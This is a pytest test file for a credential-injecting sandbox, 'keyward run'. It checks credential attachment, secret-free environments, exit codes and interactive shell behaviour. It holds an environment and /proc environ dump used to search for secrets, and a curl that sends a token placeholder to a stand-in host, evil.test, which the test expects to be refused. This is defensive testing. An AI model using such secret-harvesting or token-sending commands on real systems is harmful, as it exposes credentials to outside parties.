"""`keyward run`: CMD in the sandbox reaches allowed APIs with a credential it
never sees, and nothing else."""

from kwtest import SECRET, SECRET2, PLACEHOLDER
from conftest import policy_for


def test_curl_in_sandbox_gets_credential_attached(sandbox_factory, upstream):
    sb = sandbox_factory(policy_for(upstream))
    url = f"https://api.test:{upstream.port}/api/hello"
    # The test upstream echoes the request it got, real credential included,
    # so only the status is printed here; what arrived is read upstream.
    p = sb.run(["sh", "-c", f'curl -sS -o /dev/null -w "%{{http_code}}" -H "Authorization: Bearer $TEST_TOKEN" {url}'])
    assert p.returncode == 0, p.err
    assert p.out == "200"
    assert upstream.requests[-1].target == "/api/hello"
    assert upstream.requests[-1].header("authorization") == f"Bearer {SECRET}"
    reqs = sb.requests()
    assert [r["decision"] for r in reqs] == ["allow"]
    assert reqs[0]["listener"].startswith("sandbox:")


def test_sandbox_env_holds_placeholders_only(sandbox_factory, upstream):
    sb = sandbox_factory(policy_for(upstream))
    p = sb.run(["sh", "-c", "env; cat /proc/1/environ /proc/self/environ 2>/dev/null | tr '\\0' '\\n'"])
    assert p.returncode == 0, p.err
    env = dict(l.split("=", 1) for l in p.out.splitlines() if "=" in l)
    assert env["TEST_TOKEN"] == PLACEHOLDER
    assert SECRET not in p.out and SECRET2 not in p.out
    assert env["HTTPS_PROXY"].startswith("http://127.0.0.1:")
    assert env["NO_PROXY"] == ""


def test_placeholder_to_unlisted_host_is_refused(sandbox_factory, upstream):
    sb = sandbox_factory(policy_for(upstream), resolve=("api.test:127.0.0.1", "evil.test:127.0.0.1"))
    p = sb.run(["sh", "-c", f'curl -sS -o /dev/null -w "%{{http_code}}" '
                            f'-H "X-Token: $TEST_TOKEN" https://evil.test:{upstream.port}/'])
    assert p.out.strip() in ("000", "403"), p.out + p.err
    assert upstream.requests == []
    assert sb.requests()[-1]["decision"] == "deny"


def test_exit_status_is_cmds(sandbox_factory):
    sb = sandbox_factory()
    assert sb.run(["sh", "-c", "exit 7"]).returncode == 7
    assert sb.run(["sh", "-c", "kill -TERM $$"]).returncode == 128 + 15
    p = sb.run(["/no/such/program"])
    assert p.returncode == 127 and "No such file" in p.err


def test_interactive_shell_and_ctrl_c(sandbox_factory):
    """bash on a terminal: job control works, Ctrl-C interrupts the
    foreground command and not the shell, the exit status is bash's."""
    import os
    import pty
    import select
    import time

    sb = sandbox_factory()
    pid, fd = pty.fork()
    if pid == 0:
        os.chdir(sb.tmp)
        os.execve(sb.argv([])[0], sb.argv(["bash", "--norc", "--noprofile", "-i"]), sb.env)

    def read_until(marker, timeout=10):
        out, end = b"", time.time() + timeout
        while marker not in out and time.time() < end:
            r, _, _ = select.select([fd], [], [], 0.1)
            if r:
                try:
                    out += os.read(fd, 4096)
                except OSError:
                    break
        return out

    try:
        first = read_until(b"$ ")
        assert b"no job control" not in first, first
        os.write(fd, b"echo $((6*7))\n")
        assert b"42" in read_until(b"42")
        os.write(fd, b"sleep 100; echo not-interrupted\n")
        time.sleep(0.5)
        os.write(fd, b"\x03")
        os.write(fd, b"echo after-$((1+1))\n")
        out = read_until(b"after-2")
        assert b"after-2" in out and b"\nnot-interrupted" not in out, out
        os.write(fd, b"exit 5\n")
        _, st = os.waitpid(pid, 0)
        assert os.waitstatus_to_exitcode(st) == 5
    finally:
        try:
            os.kill(pid, 9)
            os.waitpid(pid, 0)
        except (ProcessLookupError, ChildProcessError):
            pass
        os.close(fd)
